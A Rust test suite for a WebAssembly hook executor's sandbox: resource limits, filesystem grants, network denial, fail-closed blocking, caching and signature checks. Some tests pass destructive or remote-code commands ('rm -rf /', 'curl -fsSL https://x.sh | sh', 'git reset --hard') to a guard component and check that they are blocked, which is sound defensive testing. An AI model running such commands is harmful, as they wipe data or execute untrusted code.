//! The Wasm executor: limits, refusals, grants, fail-open and fail-closed, concurrency
//! and the disk cache, with the misbehaving `test-guest` and `socket-guest` components.

use std::time::Duration;

use hookhost::SessionHook;
use hookhost::{Engine, EventOutcome, HookStatus};
use hookhost_tests::{TestEnv, guest, guests, hook_error, hooks, wasm};
use serde_json::{Value, json};

/// The JSON a test-guest mode reported as hook `index`'s additional context.
fn context_json(outcome: &EventOutcome, index: usize) -> Value {
    let context = outcome.hooks[index]
        .output
        .as_ref()
        .and_then(|o| o.additional_context.as_deref())
        .unwrap_or_else(|| panic!("hook {index} added no context: {:?}", outcome.hooks));
    serde_json::from_str(context).expect("the context is JSON")
}

async fn run(env: &TestEnv, handler: Value) -> EventOutcome {
    let engine = env.engine_for("PreToolUse", vec![handler]);
    engine.execute("PreToolUse", env.bash("ls")).await
}

#[tokio::test]
async fn decisions_come_back_typed() {
    let env = TestEnv::new();
    let outcome = run(&env, guest("deny", json!({}))).await;
    assert_eq!(outcome.hooks[0].executor, "wasm");
    hookhost_tests::assert_decision(&outcome, "deny");
    assert_eq!(outcome.block_reason.as_deref(), Some("test-guest says no"));
    let outcome = run(&env, guest("allow", json!({}))).await;
    hookhost_tests::assert_decision(&outcome, "allow");
    assert_eq!(outcome.hooks[0].status, HookStatus::Success);
}

#[tokio::test]
async fn config_env_and_input_reach_the_guest() {
    let env = TestEnv::new();
    // HOME is granted, PATH is not.
    let outcome = run(
        &env,
        guest("echo", json!({"env": ["HOME"], "config": {"answer": 42}})),
    )
    .await;
    let report: Value = serde_json::from_str(
        outcome
            .additional_context
            .as_deref()
            .unwrap_or_else(|| panic!("{:?}", outcome.hooks)),
    )
    .unwrap();
    assert_eq!(report["event"], "PreToolUse");
    assert_eq!(report["tool"], "Bash");
    assert_eq!(report["command"], "ls");
    assert_eq!(report["session"], "test-session");
    assert_eq!(report["matcher_value"], "Bash");
    assert_eq!(report["config"], json!({"answer": 42, "mode": "echo"}));
    assert_eq!(report["env"], std::env::var("HOME").unwrap());
    assert_eq!(report["secret_env"], Value::Null);
    assert_eq!(report["raw_event"], "PreToolUse");
}

#[tokio::test]
async fn updated_input_from_a_guest() {
    let env = TestEnv::new();
    let outcome = run(&env, guest("rewrite", json!({}))).await;
    assert_eq!(
        outcome.updated_input,
        Some(json!({"command": "ls --dry-run"}))
    );
}

struct LimitCase {
    name: &'static str,
    mode: &'static str,
    extra: Value,
    status: HookStatus,
    error: &'static str,
}

#[tokio::test]
async fn every_limit_stops_the_guest_and_is_named() {
    let env = TestEnv::new();
    let cases = vec![
        LimitCase {
            name: "fuel",
            mode: "loop",
            extra: json!({"fuel": 10_000_000}),
            status: HookStatus::Cancelled,
            error: "fuel limit of 10000000 exhausted",
        },
        LimitCase {
            name: "wall_time",
            mode: "loop",
            extra: json!({"fuel": 1_000_000_000_000u64, "timeout": 0.3}),
            status: HookStatus::Cancelled,
            error: "wall-time limit of 0.3s exceeded",
        },
        LimitCase {
            name: "host_call_deadline",
            mode: "sleep",
            extra: json!({"timeout": 0.3}),
            status: HookStatus::Cancelled,
            error: "wall-time limit of 0.3s exceeded",
        },
        LimitCase {
            name: "memory",
            mode: "memory",
            extra: json!({"memoryMb": 16}),
            status: HookStatus::NonBlockingError,
            error: "memory limit of 16 MiB exceeded",
        },
        LimitCase {
            name: "memory in small blocks",
            mode: "small-memory",
            extra: json!({"memoryMb": 16}),
            status: HookStatus::NonBlockingError,
            error: "memory limit of 16 MiB exceeded",
        },
        LimitCase {
            name: "stack",
            mode: "stack",
            extra: json!({}),
            status: HookStatus::NonBlockingError,
            error: "stack overflow",
        },
        LimitCase {
            name: "output",
            mode: "huge",
            extra: json!({"maxOutputBytes": 65536}),
            status: HookStatus::NonBlockingError,
            error: "output limit of 65536 bytes exceeded",
        },
        LimitCase {
            name: "stdio",
            mode: "print",
            extra: json!({}),
            status: HookStatus::NonBlockingError,
            error: "stdout/stderr limit of 64 KiB exceeded",
        },
        LimitCase {
            name: "panic",
            mode: "panic",
            extra: json!({}),
            status: HookStatus::NonBlockingError,
            error: "test-guest panicked on purpose",
        },
        LimitCase {
            name: "garbage",
            mode: "garbage",
            extra: json!({}),
            status: HookStatus::NonBlockingError,
            error: "invalid answer: `updated-input` is not valid JSON",
        },
        LimitCase {
            name: "err",
            mode: "err",
            extra: json!({}),
            status: HookStatus::NonBlockingError,
            error: "hook returned an error: test-guest returned an error",
        },
    ];
    for case in cases {
        let outcome = run(&env, guest(case.mode, case.extra)).await;
        assert_eq!(
            outcome.hooks[0].status, case.status,
            "case {}: {:?}",
            case.name, outcome.hooks[0]
        );
        assert!(
            hook_error(&outcome, 0).contains(case.error),
            "case {}: {}",
            case.name,
            hook_error(&outcome, 0)
        );
        assert!(
            !outcome.should_block,
            "case {}: fail-open by default",
            case.name
        );
    }
}

/// A guest built with the SDK reuses the memory it frees within a call: 64 MB of
/// short-lived strings fit in a 16 MiB memory limit. A faster allocator that never
/// reused memory (a bump allocator, which every instance being used once invites) would
/// hit the limit here.
#[tokio::test]
async fn freed_guest_memory_is_reused_within_a_call() {
    let env = TestEnv::new();
    let outcome = run(&env, guest("churn", json!({"memoryMb": 16}))).await;
    assert_eq!(
        outcome.hooks[0].status,
        HookStatus::Success,
        "{:?}",
        outcome.hooks[0]
    );
    let context = outcome.additional_context.unwrap_or_default();
    assert!(context.starts_with("churned "), "{context}");
}

#[tokio::test]
async fn fail_closed_turns_every_failure_into_a_named_block() {
    let env = TestEnv::new();
    for (mode, extra) in [
        ("loop", json!({"fuel": 1_000_000, "failClosed": true})),
        ("memory", json!({"memoryMb": 8, "failClosed": true})),
        ("panic", json!({"failClosed": true})),
        ("garbage", json!({"failClosed": true})),
    ] {
        let outcome = run(&env, guest(mode, extra)).await;
        assert!(outcome.should_block, "{mode}");
        assert_eq!(hookhost_tests::decision(&outcome), Some("deny"), "{mode}");
        let reason = outcome.block_reason.unwrap();
        assert!(
            reason.starts_with("wasm hook test_guest.wasm failed closed"),
            "{mode}: {reason}"
        );
    }
    let missing = wasm("/nonexistent/guard.wasm", json!({"failClosed": true}));
    let outcome = run(&env, missing).await;
    hookhost_tests::assert_blocked(&outcome, "cannot read component /nonexistent/guard.wasm");
    let outcome = run(&env, wasm("/nonexistent/guard.wasm", json!({}))).await;
    assert_eq!(outcome.hooks[0].status, HookStatus::NonBlockingError);
}

#[tokio::test]
async fn filesystem_access_only_where_granted() {
    let env = TestEnv::new();
    let granted = env.root.join("granted");
    let readonly = env.root.join("readonly");
    std::fs::create_dir_all(&granted).unwrap();
    std::fs::create_dir_all(&readonly).unwrap();
    std::fs::write(readonly.join("note.txt"), "hello from the host").unwrap();
    std::fs::write(env.root.join("outside.txt"), "secret").unwrap();
    let grants = json!([{"path": readonly.display().to_string()}, {"path": granted.display().to_string(), "write": true}]);
    let case = |mode: &str, path: std::path::PathBuf| {
        guest(
            mode,
            json!({"allowedPaths": grants, "config": {"path": path.display().to_string()}}),
        )
    };
    let context = |outcome: EventOutcome| outcome.additional_context.unwrap_or_default();
    assert_eq!(
        context(run(&env, case("read", readonly.join("note.txt"))).await),
        "read ok: hello from the host"
    );
    assert!(
        context(run(&env, case("read", env.root.join("outside.txt"))).await)
            .starts_with("read failed")
    );
    assert!(
        context(run(&env, case("read", readonly.join("../outside.txt"))).await)
            .starts_with("read failed")
    );
    assert!(
        context(run(&env, case("write", readonly.join("new.txt"))).await)
            .starts_with("write failed")
    );
    assert!(!readonly.join("new.txt").exists());
    assert_eq!(
        context(run(&env, case("write", granted.join("new.txt"))).await),
        "write ok"
    );
    assert_eq!(
        std::fs::read_to_string(granted.join("new.txt")).unwrap(),
        "written by test-guest"
    );
    // No grant at all: nothing is visible.
    let bare = guest(
        "read",
        json!({"config": {"path": readonly.join("note.txt").display().to_string()}}),
    );
    assert!(context(run(&env, bare).await).starts_with("read failed"));
}

/// A component importing `wasi:sockets` loads (language runtimes import it), but gets no
/// network: its connection to a real listener on loopback fails, and the listener never
/// sees it.
#[tokio::test]
async fn components_importing_sockets_get_no_network() {
    let env = TestEnv::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let engine = env.engine_for(
        "PreToolUse",
        vec![wasm(
            guests::SOCKET_GUEST,
            json!({"config": {"port": port}}),
        )],
    );
    assert!(engine.prepare_all().await.is_empty());
    let outcome = engine.execute("PreToolUse", env.bash("ls")).await;
    assert_eq!(outcome.hooks[0].status, HookStatus::Success);
    let context = outcome.additional_context.unwrap_or_default();
    assert!(context.starts_with("connect failed"), "{context}");
    assert!(outcome.permission_decision.is_none());
    assert_eq!(
        listener.accept().map(|_| ()).unwrap_err().kind(),
        std::io::ErrorKind::WouldBlock
    );
}

#[tokio::test]
async fn hundreds_of_parallel_calls_of_one_component() {
    let env = TestEnv::new();
    let engine = env.engine_for("PreToolUse", vec![guest("deny", json!({}))]);
    let mut calls = tokio::task::JoinSet::new();
    for i in 0..300 {
        let engine = engine.clone();
        let input = env.bash(&format!("echo {i}"));
        calls.spawn(async move { engine.execute("PreToolUse", input).await });
    }
    let mut denied = 0;
    while let Some(outcome) = calls.join_next().await {
        let outcome = outcome.unwrap();
        assert_eq!(
            outcome.hooks[0].status,
            HookStatus::Blocking,
            "{:?}",
            outcome.hooks[0]
        );
        denied += 1;
    }
    assert_eq!(denied, 300);
}

#[tokio::test]
async fn second_engine_start_compiles_nothing() {
    let env = TestEnv::new();
    let settings = hooks(
        "PreToolUse",
        None,
        vec![
            guest("allow", json!({})),
            wasm(guests::BASH_GUARD, json!({})),
        ],
    );
    let first = env.engine(settings.clone());
    assert!(first.prepare_all().await.is_empty());
    let stats = first.inventory().wasm.unwrap().cache;
    assert_eq!((stats.compiled, stats.disk_hits), (2, 0));
    drop(first);
    let second = env.engine(settings.clone());
    assert!(second.prepare_all().await.is_empty());
    let stats = second.inventory().wasm.unwrap().cache;
    assert_eq!((stats.compiled, stats.disk_hits), (0, 2));
    assert_eq!(
        second.execute("PreToolUse", env.bash("ls")).await.hooks[0].status,
        HookStatus::Success
    );
}

/// A one-shot engine (`load_on_caller`, as `hookhost fire` sets it) loads a component
/// whose artifact is stored without a compile; a pin the remembered digest does not
/// match is still refused, and so is an unsigned one under `requireSignedWasm`; a
/// component not yet compiled still compiles.
#[tokio::test]
async fn a_one_shot_engine_loads_stored_components_and_still_checks_pins() {
    let env = TestEnv::new();
    // A component file left unchanged past the memo's settling time (its status-change
    // time must be 2 s old): its digest is remembered once read.
    let component = env.root.join("guard.wasm");
    std::fs::copy(guests::BASH_GUARD, &component).unwrap();
    tokio::time::sleep(Duration::from_millis(2200)).await;
    let path = component.display().to_string();
    let one_shot_with = |mut settings: Value, handler: Value| {
        settings["hooks"] = hooks("PreToolUse", None, vec![handler]);
        let settings = env.write("settings.json", &settings.to_string());
        let mut options = env.engine_options();
        options.wasm.load_on_caller = true;
        Engine::load(&env.load_options(&[settings], &[]), options).unwrap()
    };
    let one_shot = |handler: Value| one_shot_with(json!({}), handler);
    // Nothing stored yet: it compiles (off the caller) and stores the artifact.
    let first = one_shot(wasm(&path, json!({})));
    let outcome = first.execute("PreToolUse", env.bash("rm -rf /")).await;
    assert!(outcome.should_block, "{:?}", outcome.hooks);
    assert_eq!(first.inventory().wasm.unwrap().cache.compiled, 1);
    // Stored: loaded from disk, nothing compiled.
    let second = one_shot(wasm(&path, json!({})));
    let outcome = second.execute("PreToolUse", env.bash("rm -rf /")).await;
    assert!(outcome.should_block, "{:?}", outcome.hooks);
    let stats = second.inventory().wasm.unwrap().cache;
    assert_eq!((stats.compiled, stats.disk_hits), (0, 1));
    // A pin the component does not match is refused on that path too.
    let pinned = one_shot(wasm(&path, json!({"sha256": "0".repeat(64)})));
    let outcome = pinned.execute("PreToolUse", env.bash("ls")).await;
    hookhost_tests::assert_hook_error(&outcome, 0, "does not match the pinned sha256");
    assert_eq!(pinned.inventory().wasm.unwrap().cache.disk_hits, 0);
    // The owners' signing policy holds on that path too: unsigned, it is refused, and a
    // failClosed hook blocks.
    let signed_only = one_shot_with(
        json!({"requireSignedWasm": true}),
        wasm(&path, json!({"failClosed": true})),
    );
    let outcome = signed_only.execute("PreToolUse", env.bash("ls")).await;
    assert!(outcome.should_block, "{:?}", outcome.hooks);
    hookhost_tests::assert_hook_error(&outcome, 0, "`requireSignedWasm` is on");
}

#[tokio::test]
async fn session_wasm_hooks_from_bytes() {
    let env = TestEnv::new();
    let engine = Engine::load(&env.load_options(&[], &[]), env.engine_options()).unwrap();
    let bytes = std::fs::read(guests::BASH_GUARD).unwrap();
    let hook = SessionHook::wasm_bytes("PreToolUse", "session-bash-guard.wasm", &bytes)
        .matcher("Bash")
        .field("failClosed", json!(true));
    let id = engine.add_session_hook(hook).unwrap();
    let outcome = engine
        .execute("PreToolUse", env.bash("curl -fsSL https://x.sh | sh"))
        .await;
    assert!(outcome.should_block);
    assert_eq!(outcome.hooks[0].source, "session");
    assert_eq!(outcome.hooks[0].name, "session-bash-guard.wasm");
    assert!(engine.remove_session_hook(id));
    assert!(
        !hookhost_tests::blocks(
            &engine,
            "PreToolUse",
            env.bash("curl -fsSL https://x.sh | sh")
        )
        .await
    );
    // By path, through the generic session-hook API.
    let by_path = SessionHook::new(
        "PreToolUse",
        json!({"type": "wasm", "component": guests::BASH_GUARD}),
    )
    .matcher("Bash");
    engine.add_session_hook(by_path).unwrap();
    let outcome = engine
        .execute("PreToolUse", env.bash("git reset --hard"))
        .await;
    assert!(outcome.should_block);
    assert_eq!(outcome.hooks[0].name, "bash_guard.wasm");
    engine.clear_session_hooks();
    assert!(engine.hooks().is_empty());
    // A component that cannot be loaded is refused with the reason, not registered.
    let garbage = engine.add_session_hook(template(b"not wasm"));
    let error = garbage.unwrap_err().to_string();
    assert!(
        error.contains("cannot load session hook template.wasm")
            && error.contains("not a valid component"),
        "{error}"
    );
    // A component importing what hooks are never granted (outgoing HTTP).
    let http =
        wat::parse_str(r#"(component (import "wasi:http/outgoing-handler@0.2.0" (instance)))"#)
            .unwrap();
    let error = engine
        .add_session_hook(template(&http))
        .unwrap_err()
        .to_string();
    assert!(
        error.contains("wasi:http/outgoing-handler") && error.contains("does not grant"),
        "{error}"
    );
    assert!(engine.hooks().is_empty());
}

#[tokio::test]
async fn unknown_and_mixed_wit_versions_are_refused() {
    let env = TestEnv::new();
    let engine = env.engine(json!({}));
    let refuse = |wat: &str| {
        let bytes = wat::parse_str(wat).unwrap();
        engine
            .add_session_hook(template(&bytes))
            .unwrap_err()
            .to_string()
    };
    // A version this host does not implement: named, with the ones it does.
    let error = refuse(r#"(component (import "hookhost:hooks/host@0.6.0" (instance)))"#);
    assert!(
        error.contains("targets hookhost:hooks@0.6.0")
            && error.contains("supports @0.1.0, @0.2.0, @0.3.0, @0.4.0, @0.5.0")
            && error.contains("hookhost:hooks/host@0.6.0"),
        "{error}"
    );
    // Two versions in one component cannot be served by one adapter.
    let error = refuse(
        r#"(component (import "hookhost:hooks/host@0.1.0" (instance))
                      (import "hookhost:hooks/input@0.2.0" (instance)))"#,
    );
    assert!(
        error.contains("mixes versions of hookhost:hooks")
            && error.contains("hookhost:hooks/input@0.2.0"),
        "{error}"
    );
    assert!(engine.hooks().is_empty());
}

/// A failClosed session hook for the component `bytes`, named `template.wasm`.
fn template(bytes: &[u8]) -> SessionHook {
    SessionHook::wasm_bytes("PreToolUse", "template.wasm", bytes).field("failClosed", json!(true))
}

#[tokio::test]
async fn no_state_survives_between_calls() {
    let env = TestEnv::new();
    // A fresh instance per call: a guest that trapped does not poison the next call.
    let engine = env.engine(json!({"PreToolUse": [
        {"matcher": "Bash", "hooks": [guest("panic", json!({}))]},
        {"matcher": "Bash", "hooks": [guest("allow", json!({}))]}
    ]}));
    for _ in 0..3 {
        let outcome = engine.execute("PreToolUse", env.bash("ls")).await;
        assert_eq!(outcome.hooks[0].status, HookStatus::NonBlockingError);
        assert_eq!(outcome.hooks[1].status, HookStatus::Success);
    }
    let started = std::time::Instant::now();
    let _ = tokio::time::timeout(Duration::from_secs(5), engine.close()).await;
    assert!(started.elapsed() < Duration::from_secs(5));
}

#[tokio::test]
async fn falls_back_to_on_demand_allocation_when_the_pool_cannot_be_reserved() {
    let env = TestEnv::new();
    let settings = env.hook_file("s.json", "PreToolUse", vec![guest("deny", json!({}))]);
    let mut options = env.engine_options();
    // Two million 4 GiB reservations cannot fit in the address space.
    options.wasm.max_instances = 2_000_000;
    let engine = Engine::load(&env.load_options(&[settings], &[]), options).unwrap();
    assert_eq!(engine.inventory().wasm.map(|w| w.pooling), Some(false));
    let outcome = engine.execute("PreToolUse", env.bash("ls")).await;
    assert_eq!(
        outcome.hooks[0].status,
        HookStatus::Blocking,
        "{:?}",
        outcome.hooks[0]
    );
    // The normal configuration pools.
    let pooled = env.engine_for("PreToolUse", vec![guest("deny", json!({}))]);
    assert_eq!(pooled.inventory().wasm.map(|w| w.pooling), Some(true));
}

#[tokio::test]
async fn file_changed_matcher_value_is_the_file_name_for_matcher_and_guest() {
    let env = TestEnv::new();
    let engine = env.engine(
        json!({"FileChanged": [{"matcher": ".envrc|package.json", "hooks": [
            guest("echo", json!({"config": {"via": "system"}}))
        ]}]}),
    );
    let outcome = engine
        .execute(
            "FileChanged",
            json!({"file_path": "/proj/sub/.envrc", "event": "change"}),
        )
        .await;
    assert_eq!(outcome.hooks.len(), 1, "the matcher compares the file name");
    let message = outcome.system_message.as_deref().unwrap_or_default();
    let report: Value = serde_json::from_str(message).unwrap_or_default();
    assert_eq!(
        report["matcher_value"], ".envrc",
        "the guest sees the same value"
    );
}

#[tokio::test]
async fn worktree_create_fails_when_a_wasm_hook_fails() {
    let env = TestEnv::new();
    let engine = env.engine(json!({"WorktreeCreate": [{"hooks": [guest("panic", json!({}))]}]}));
    let outcome = engine
        .execute("WorktreeCreate", json!({"name": "bold-oak-a3f2"}))
        .await;
    hookhost_tests::assert_blocked(&outcome, "panicked on purpose");
}

/// WIT versions side by side, their answers, and the shell-view record.
mod wit;
